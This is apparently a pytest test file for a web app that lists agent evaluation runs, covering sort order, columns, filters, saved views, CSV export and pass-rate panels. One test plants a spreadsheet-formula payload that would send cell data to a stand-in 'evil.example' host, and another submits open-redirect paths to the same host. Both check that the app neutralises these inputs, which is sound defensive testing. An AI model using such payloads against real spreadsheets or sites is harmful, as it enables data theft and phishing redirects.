"""Lists of runs as people arrange them: order, columns, filters, saved views, and the view as a CSV file."""

import csv
import html
import io
import re
from collections.abc import Iterator

import httpx2
import pytest
from playwright.sync_api import Browser, expect

from support.browser import check_page, person
from support.sample_batches import RanBatches, csrf_of, ran_batches, signed_in
from support.server_process import Api


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RanBatches]:
    with ran_batches(tmp_path_factory.mktemp("views") / "house") as found:
        yield found


@pytest.fixture(scope="module")
def client(ran: RanBatches) -> Iterator[httpx2.Client]:
    with signed_in(ran.api) as browsing:
        yield browsing


def failed_batch(api: Api) -> int:
    """A batch with a run that failed and one that passed."""
    for batch in api.get("/api/batches")["items"]:
        counts = api.batch(batch["id"])["counts"]["by_verdict"]
        if counts.get("FAIL") and counts.get("PASS"):
            return int(batch["id"])
    raise AssertionError("no batch has both")


def verdicts(text: str) -> list[str]:
    rows = re.findall(r"<tr data-row>(.*?)</tr>", text.partition('id="runs"')[2], re.DOTALL)
    return [next(word for word in ("fail", "pending", "pass") if f"</span>{word}" in row) for row in rows]


def lines(answered: httpx2.Response) -> list[dict[str, str]]:
    assert answered.status_code == 200, answered.text
    assert answered.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(answered.text)))


def test_failures_come_first_in_a_batch_each_with_its_reason(client: httpx2.Client, ran: RanBatches) -> None:
    batch_id = failed_batch(ran.api)
    page = client.get(f"/batches/{batch_id}").text
    found = verdicts(page)
    assert found == sorted(found, key=("fail", "pending", "pass").index)
    assert found[0] == "fail"
    assert '<th scope="col">First reason</th>' in page
    reasons = re.findall(r'class="clip reason" title="([^"]+)"', page)
    assert len(reasons) >= found.count("fail")


def test_columns_are_chosen_and_the_choice_is_in_the_address(client: httpx2.Client, ran: RanBatches) -> None:
    page = client.get("/runs?column=reason&column=tokens").text
    heads = re.findall(r'<th scope="col"[^>]*>([^<]*)</th>', page)
    assert heads == ["Run", "Verdict", "First reason", "Task", "Tokens"]
    assert "repeat 2" in client.get("/runs").text
    assert "×" not in re.sub(r"<[^>]*>", "", client.get("/runs").text.partition("<tbody>")[2])


@pytest.mark.parametrize(
    ("query", "problem"),
    [
        ("sort=newest-ish", "must be one of newest"),
        ("sort=cost&q=refund", "lists the newest runs first"),
        ("since=yesterday", "must be a date"),
        ("agent_version=x", "must be a number"),
    ],
)
def test_what_cannot_be_read_is_said(client: httpx2.Client, query: str, problem: str) -> None:
    answered = client.get(f"/runs?{query}")
    assert answered.status_code == 422
    assert problem in html.unescape(answered.text)


def test_the_file_has_exactly_the_view(client: httpx2.Client, ran: RanBatches) -> None:
    batch_id = failed_batch(ran.api)
    page = client.get(f"/batches/{batch_id}?verdict=FAIL&column=reason&column=agent").text
    link = re.search(r'href="(/runs\.csv\?[^"]+)"', page)
    assert link is not None
    found = lines(client.get(html.unescape(link[1])))
    shown = re.findall(r'href="/runs/(\d+)" data-opens', page)
    assert [line["run"] for line in found] == shown
    assert list(found[0])[-4:] == ["first_reason", "agent", "version", "label"]
    assert {line["verdict"] for line in found} == {"FAIL"}
    assert all(line["first_reason"] for line in found)
    every = lines(client.get(f"/runs.csv?batch_id={batch_id}"))
    assert len(every) == len(ran.api.runs(batch_id))


def test_no_cell_of_the_file_is_a_formula(client: httpx2.Client, ran: RanBatches) -> None:
    formula = '=HYPERLINK("https://evil.example/?x="&A1)'
    dataset = ran.api.dataset({"user_instruction": formula, "tags": ["sheet"]}, agent_id=ran.agent_id)
    ran.api.ended(ran.api.batch_of(ran.agent_id, dataset["id"]))
    [line] = lines(client.get("/runs.csv?tag=sheet"))
    assert line["request"] == f"'{formula}"


def test_a_view_is_saved_under_a_name_and_opened_by_everybody(browser: Browser, ran: RanBatches) -> None:
    with person(browser, ran.api) as visitor:
        page = visitor.opens("/runs?verdict=FAIL&sort=duration&column=reason")
        page.get_by_text("Save this view").click()
        page.get_by_label("Name", exact=True).fill("Slow failures")
        page.get_by_role("button", name="Save", exact=True).click()
        expect(page.get_by_role("status")).to_contain_text("Saved as Slow failures")
        page.goto("/runs")
        page.get_by_role("navigation", name="Saved views").get_by_role("link", name="Slow failures").click()
        page.wait_for_url("**/runs?verdict=FAIL&sort=duration&column=reason")
        expect(page.get_by_label("Verdict", exact=True)).to_have_value("FAIL")
        page.locator("details.view summary").click()
        expect(page.get_by_label("Order")).to_have_value("duration")
        page.get_by_label("Order").select_option("failures")
        page.get_by_label("Tokens").check()
        page.get_by_role("button", name="Show").click()
        page.wait_for_url("**/runs?verdict=FAIL&sort=failures&column=reason&column=tokens")


def test_a_view_leads_to_a_list_of_this_server_only(client: httpx2.Client, ran: RanBatches) -> None:
    csrf = csrf_of(client)
    for path in ("//evil.example/runs", "https://evil.example/runs", "/settings", "/runs\\x", ""):
        form = {"csrf": csrf, "name": "bad", "path": path}
        assert client.post("/views", data=form).status_code == 422, path
    assert client.post("/views", data={"csrf": csrf, "name": "", "path": "/runs"}).status_code == 422
    assert client.post("/views/999/delete", data={"csrf": csrf}).status_code == 404


def test_the_list_with_everything_open_can_be_read_by_everyone(browser: Browser, ran: RanBatches) -> None:
    columns = "".join(f"&column={name}" for name in ("reason", "people", "agent", "status", "calls", "cost"))
    with person(browser, ran.api) as visitor:
        check_page(visitor, f"/runs?sort=failures{columns}", "runs-view")


def batch_ids(page: str) -> list[int]:
    return [int(number) for number in re.findall(r'name="batch" value="(\d+)"', page)]


def test_batches_are_listed_by_label_version_date_and_order(client: httpx2.Client, ran: RanBatches) -> None:
    newest = batch_ids(client.get("/batches").text)
    assert batch_ids(client.get("/batches?sort=oldest").text) == newest[::-1]
    labelled = newest[0]
    csrf = csrf_of(client)
    form = {"csrf": csrf, "label": "3f2a1c", "note": "shorter prompt"}
    assert client.post(f"/batches/{labelled}/label", data=form).status_code == 303
    assert batch_ids(client.get("/batches?label=3f2a1c").text) == [labelled]
    assert batch_ids(client.get("/batches?agent_version=99").text) == []
    assert batch_ids(client.get("/batches?until=2020-01-01").text) == []
    assert batch_ids(client.get("/batches?batch_status=completed").text) == newest
    assert client.get("/batches?batch_status=odd").status_code == 422
    assert client.get("/batches?sort=cost").status_code == 422
    page = client.get(f"/batches/{labelled}").text
    assert "shorter prompt" in page
    assert ">3f2a1c</span>" in page
    assert f"batch {labelled}" in client.get("/runs?label=3f2a1c").text
    removed = client.post(f"/batches/{labelled}/label", data={"csrf": csrf, "label": "", "note": ""})
    assert removed.status_code == 303
    assert batch_ids(client.get("/batches?label=3f2a1c").text) == []


def test_pass_rates_stand_by_version_with_interval_and_n(client: httpx2.Client, ran: RanBatches) -> None:
    for path in ("/", f"/agents/{ran.agent_id}", f"/datasets/{ran.dataset_id}"):
        panel = client.get(path).text.partition('id="rates"')[2].partition("</section>")[0]
        said = " ".join(re.sub(r"<[^>]*>", " ", panel).split())
        assert re.search(r"v1 \d+ % \d+–\d+ %, n \d+", said), (path, said)
        assert re.search(r"v2 \d+ % \d+–\d+ %, n \d+", said), (path, said)
        assert panel.count('<svg class="chart"') == 1, path
        assert panel.count('class="range"') == 2, path
